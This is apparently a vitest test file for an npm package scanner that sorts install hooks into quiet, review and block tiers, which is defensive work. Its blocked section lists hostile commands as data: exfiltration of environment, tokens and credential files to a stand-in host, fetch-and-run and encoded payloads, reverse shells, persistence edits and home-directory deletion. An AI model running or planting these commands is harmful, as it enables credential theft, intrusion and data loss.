import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { inspectArchive } from '@sluice/inspection/inspect';
import { chunksOf, packageTarball } from '@sluice/testkit/fakes';
import { npmInspection } from '../inspection.ts';
import { findingsOf, manifestWith } from '../test/findings-of.ts';

/** The worst tier of the findings about hooks and the files that they run. */
async function tierOf(
  scripts: Record<string, string>,
  files: Record<string, string | Buffer> = {},
  more: object = {},
): Promise<string> {
  const found = await findingsOf({ 'package.json': manifestWith(scripts, more), ...files });
  const tiers = found.filter((line) => line.includes('malware.')).map((line) => line.split(' ')[0]);
  return tiers.includes('block') ? 'block' : tiers.includes('review') ? 'review' : 'quiet';
}

describe('hooks that build, print or do nothing are quiet', () => {
  test.each([
    'node-gyp rebuild',
    'node-gyp-build',
    'prebuild-install -r napi || node-gyp rebuild',
    'node-pre-gyp install --fallback-to-build',
    '(node-gyp rebuild > build_error.log) || (exit 0)',
    'node-gyp rebuild 2> builderror.log || exit 0',
    'cross-env JOBS=max node-gyp rebuild',
    'is-ci || husky install',
    'husky',
    'patch-package',
    'npx only-allow pnpm',
    'exit 0',
    'true',
    ':',
    'echo "thank you"',
    'opencollective-postinstall || true',
    'opencollective postinstall',
    'npm run build-addon --if-present',
    'ldd --version',
    'sysctl -n sysctl.proc_translated',
    'node lib/quiet.js',
    'node ./lib/quiet',
    'node lib',
    'cd lib && node quiet',
    'sh lib/quiet.sh',
    'node --no-warnings lib/quiet.js --flag',
    `node -e "try{require('./lib/quiet')}catch(e){}"`,
    `node -e "console.log('Thank you!')"`,
    'node -p process.version',
    'rm -rf build && mkdir build',
    'tsx lib/quiet.js',
    'npm run hello',
    'yarn hello',
    'pnpm run -s hello',
    'npm-run-all hello build-addon',
  ])('%s', async (command) => {
    const scripts = { postinstall: command, 'build-addon': 'node-gyp rebuild', hello: 'echo hello' };
    const files = {
      'lib/quiet.js': 'console.log(1)',
      'lib/index.js': 'console.log(2)',
      'lib/quiet.sh': 'echo x\n',
    };
    expect(await tierOf(scripts, files)).toBe('quiet');
  });
});

describe('hooks that are not understood wait for a person', () => {
  test.each([
    'make',
    './configure && make',
    'node absent.js',
    'node',
    'echo x | sh',
    'sh -s',
    'node < data.txt',
    'npm install left-pad',
    'npm i',
    'npm exec -y some-tool',
    'npx some-tool',
    'npx -y github:someone/tool',
    'yarn dlx tool',
    'npm run absent',
    'npm --prefix ../other run build',
    'python3 -c "print(1)"',
    'perl -e "print 1"',
    'ruby -e "puts 1"',
    'php -r "echo 1;"',
    'python3 -m some_module',
    `node -e "require('fs').writeFileSync('a', 'b')"`,
    `node -e "process['bind' + 'ing']('x')"`,
    'NODE_OPTIONS=--require=./x.js node lib/quiet.js',
    'PATH=./bin:$PATH node-gyp rebuild',
    'npm_config_registry=http://x.invalid node-gyp rebuild',
    'node $SCRIPT',
    '$SHELL lib/quiet.sh',
    'echo x > /etc/motd',
    'cp lib/quiet.js ~/quiet.js',
    'mv lib ../other/lib',
    'find . -name x -exec ./run {} ;',
    'awk "BEGIN{system(1)}"',
    'for f in a b; do ./run $f; done',
    'echo "open',
    'git clone https://x.invalid/r',
    'osascript -e "display dialog 1"',
    'pip install tool',
    'docker run tool',
    'ldd lib/addon.node',
    'ldd --version lib/addon.node',
    'sysctl -w kernel.core_pattern=x',
    'sysctl kernel.core_pattern=x',
    'sysctl -p lib/a.conf',
    'node --import data:text/javascript,1 lib/quiet.js',
  ])('%s', async (command) => {
    const tier = await tierOf({ preinstall: command }, { 'lib/quiet.js': '1', 'lib/quiet.sh': 'echo x\n' });
    expect(tier).not.toBe('quiet');
  });

  test('the finding names the line and the word', async () => {
    const manifest = '{\n"name": "a",\n"scripts": {\n"install": "node-gyp rebuild && frobnicate -x"}}';
    const archive = packageTarball({ 'package.json': manifest });
    const { findings } = await inspectArchive(chunksOf(archive), npmInspection);
    expect(findings[0]).toMatchObject({
      rule: 'malware.install-script-unclear',
      file: 'package.json',
      line: 4,
      title: 'Not understood at install: Runs frobnicate',
    });
  });
});

describe('hooks that attack are blocked', () => {
  test.each([
    'dig +short $(id -un).x.invalid',
    'host `hostname`.c.x.invalid',
    'ping -c 1 $USER.x.invalid',
    'nslookup $(cat /etc/hostname | base64).x.invalid',
    'curl -d "$(env)" https://x.invalid',
    'curl -X POST -F file=@/etc/passwd https://x.invalid',
    'curl --data-binary @.npmrc https://x.invalid',
    'curl "https://x.invalid/?t=$NPM_TOKEN"',
    'wget --post-file=/etc/hosts https://x.invalid',
    'env | curl -d @- https://x.invalid',
    'cat ~/.npmrc | nc x.invalid 4444',
    'nc x.invalid 4444 < ~/.netrc',
    'curl -s https://x.invalid/a | node',
    'wget -qO- https://x.invalid/a | sudo bash -s',
    'bash <(curl -s https://x.invalid/a)',
    'sh -c "$(curl -fsSL https://x.invalid/a)"',
    'eval "$(wget -qO- https://x.invalid/a)"',
    'curl -s https://x.invalid/a -o /tmp/a && chmod +x /tmp/a && /tmp/a',
    'wget https://x.invalid/a.js -O a.js; node a.js',
    'curl -o x.py https://x.invalid/x.py && python3 x.py',
    'certutil -urlcache -f http://x.invalid/a.exe a.exe && start a.exe',
    'mshta http://x.invalid/a.hta',
    'regsvr32 /s /n /u /i:http://x.invalid/a.sct scrobj.dll',
    'deno run -A https://x.invalid/a.ts',
    'node --import=https://x.invalid/a.mjs lib/quiet.js',
    'echo ZWNobyBjYXNl | base64 -d | sh',
    'echo ZWNobyBjYXNl | base64 --decode | node',
    'bash -c "$(echo ZWNobyBjYXNl | base64 -d)"',
    'powershell -enc ZQBjAGgAbwAgAGMAYQBzAGUAZQBjAGgAbwAgAGMAYQBzAGUA',
    'powershell -w hidden -c "iex (irm http://x.invalid/a)"',
    'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1',
    'sh -i 5<> /dev/udp/127.0.0.1/53 0<&5 1>&5 2>&5',
    'nc -e /bin/sh 127.0.0.1 4444',
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f',
    'socat tcp:127.0.0.1:4444 exec:sh',
    `python3 -c "import os,urllib.request as u;u.urlopen('http://x.invalid/',data=str(os.environ).encode())"`,
    `python -c "import socket,subprocess,os;s=socket.socket();s.connect(('127.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh'])"`,
    `python3 -c "exec(__import__('urllib.request').request.urlopen('http://x.invalid/a').read())"`,
    `ruby -e "require 'open-uri'; eval(URI.open('http://x.invalid/a').read)"`,
    `perl -e "use LWP::Simple; eval(get('http://x.invalid/a')); LWP::UserAgent->new"`,
    `php -r "eval(file_get_contents('http://x.invalid/a'));"`,
    `node -e "require('https').get('https://x.invalid/'+encodeURIComponent(JSON.stringify(process.env)))"`,
    'echo "node /tmp/.a &" >> ~/.bashrc',
    'echo "x" | tee -a $HOME/.zshrc',
    '(crontab -l; echo "* * * * * /tmp/a") | crontab -',
    'cp run.service ~/.config/systemd/user/ && systemctl --user enable run',
    'cp lib/quiet.sh ../../.git/hooks/pre-commit',
    'git config --global core.hooksPath /tmp/hooks',
    'schtasks /create /tn x /tr a.exe /sc onlogon',
    'reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d a.exe',
    'echo "ssh-rsa AAAA x" >> ~/.ssh/authorized_keys',
    'cp lib/settings.json ~/.claude/settings.json',
    'rm -rf ~/',
    'rm -rf $HOME',
    'rm -fr / --no-preserve-root',
    'del /f /s /q %userprofile%',
    'node lib/quiet.js && rm -f lib/quiet.js',
    'node lib/quiet.js; mv package.md package.json',
    'node lib/quiet.js && npm pkg delete scripts.preinstall',
  ])('%s', async (command) => {
    expect(await tierOf({ preinstall: command }, { 'lib/quiet.js': '1', 'lib/quiet.sh': 'echo x\n' })).toBe(
      'block',
    );
  });

  test.each<[string, Record<string, string>]>([
    ['two scripts further', { postinstall: 'npm run a', a: 'yarn b', b: 'cd s && node x' }],
    ['before a script', { postinstall: 'npm run a', prea: 'node s/x.js', a: 'echo' }],
    ['after a script', { postinstall: 'pnpm run a', posta: 'node s/x.js', a: 'echo' }],
    ['in npm test', { postinstall: 'npm t', test: 'node s/x.js' }],
    ['with node --run', { postinstall: 'node --run a', a: 'node s/x.js' }],
    ['in a folder', { postinstall: 'node s/.' }],
    ['in a shell', { postinstall: `sh -c "cd s; node ./x.js"` }],
    ['in a shell of Windows', { postinstall: 'cmd /c "node s\\\\x.js"' }],
    ['before another file', { postinstall: 'node -r ./s/x.js s/y.js' }],
    ['as a module before another file', { postinstall: 'node --import ./s/x.js s/y.js' }],
    ['as a loader', { postinstall: 'node --experimental-loader=./s/x.js s/y.js' }],
    ['by the name of its own program', { postinstall: 'npx tool' }],
    ['started by inline code', { postinstall: `node -e "require('child_process').fork('./s/x.js')"` }],
    ['behind variables', { postinstall: 'env A=1 cross-env B=2 node s/x.js' }],
    ['as a program', { postinstall: './s/x.js' }],
    ['where the first one fails', { postinstall: 'false || node s/x.js & wait' }],
  ])('the file that sends the environment, %s', async (_, scripts) => {
    const theft = `require('https').request({ host: 'x.invalid', method: 'POST' }).end(JSON.stringify(process.env))`;
    const files = { 's/x.js': theft, 's/y.js': '1', 's/package.json': '{"main":"x.js"}' };
    expect(await tierOf(scripts, files, { bin: { tool: 's/x.js' } })).toBe('block');
  });

  test('a hook of a bundled package, by its own scripts', async () => {
    const files = {
      'node_modules/b/package.json': manifestWith({ install: 'npm run a', a: 'node x' }),
      'node_modules/b/x.js': `fetch('https://x.invalid', { method: 'POST', body: JSON.stringify(process.env) })`,
    };
    expect(await tierOf({}, files)).toBe('block');
  });
});

test('any text as a hook is judged in bounded time, and only words that are known are quiet', async () => {
  const piece = fc.constantFrom(
    'echo',
    'x',
    '"',
    "'",
    '$(',
    ')',
    '`',
    '&&',
    '|',
    '>',
    '<',
    ';',
    ' ',
    'npm run a',
    '\\',
  );
  await fc.assert(
    fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async (parts) => {
      const command = parts.join(' ');
      const tier = await tierOf({ install: command, a: 'npm run a' });
      if (/npm run a/.test(command) && !/["'\\]/.test(command))
        expect(tier === 'quiet' && /^\s*npm/.test(command)).toBe(false);
    }),
    { numRuns: 200 },
  );
});
